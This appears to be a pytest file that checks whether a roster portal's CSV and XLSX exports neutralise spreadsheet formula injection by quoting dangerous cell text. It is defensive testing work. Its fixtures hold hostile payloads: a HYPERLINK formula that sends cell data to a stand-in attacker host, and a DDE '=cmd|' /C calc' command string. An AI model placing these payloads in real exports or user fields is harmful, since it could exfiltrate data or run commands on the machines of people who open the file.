"""Formula injection (CSV injection): text that a spreadsheet would run as a formula is
written as text in every CSV and XLSX a partner downloads."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from roster.exports import spreadsheet_safe

from .conftest import AuthActions, IsolatedClient
from .portal_copies import download_copy

ATTACKS = {
    "name": '=HYPERLINK("http://evil.example/?d="&B4,"詳細")',
    "address": "+81-3-0000-0000 東京都",
    "phone": "-1+1",
    "email": "@SUM(A1)",
    "name_kana": "\t=1",
}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+81", "'+81"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("試験 太郎", "試験 太郎"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (12, "12"),
        (-3, "'-3"),
    ],
)
def test_spreadsheet_safe_quotes_text_that_could_start_a_formula(value: Any, expected: str) -> None:
    assert spreadsheet_safe(value) == expected


@pytest.fixture()
def attacker(world: dict[str, Any], db: Any) -> dict[str, Any]:
    """The consenting person, whose details were typed by someone hostile."""
    for field, value in ATTACKS.items():
        setattr(world["consenting"], field, value)
    db.flush()
    return world


def test_the_csv_writes_formula_text_as_quoted_text(
    client: IsolatedClient, auth: AuthActions, attacker: dict[str, Any]
) -> None:
    auth.login("t_partner")
    text = download_copy(client, "csv").get_data().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for value in ATTACKS.values():
        assert "'" + value in cells, value
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_xlsx_stores_formula_text_as_strings_never_as_formulas(
    client: IsolatedClient, auth: AuthActions, attacker: dict[str, Any]
) -> None:
    auth.login("t_partner")
    data = download_copy(client, "xlsx").get_data()
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for value in ATTACKS.values():
        assert "'" + value in values, value
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.coordinate
    # The raw XML holds no formula element at all.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_the_watermark_is_quoted_too_when_an_organisation_name_starts_like_a_formula(
    client: IsolatedClient, auth: AuthActions, db: Any, world: dict[str, Any]
) -> None:
    world["organisation"].name = "=cmd|' /C calc'!A0"
    db.flush()
    auth.login("t_partner")
    text = download_copy(client, "csv").get_data().decode("utf-8-sig")
    first = next(csv.reader(io.StringIO(text)))
    assert first[0].startswith("'=cmd")
    sheet = load_workbook(io.BytesIO(download_copy(client, "xlsx").get_data())).active
    assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("'=cmd")
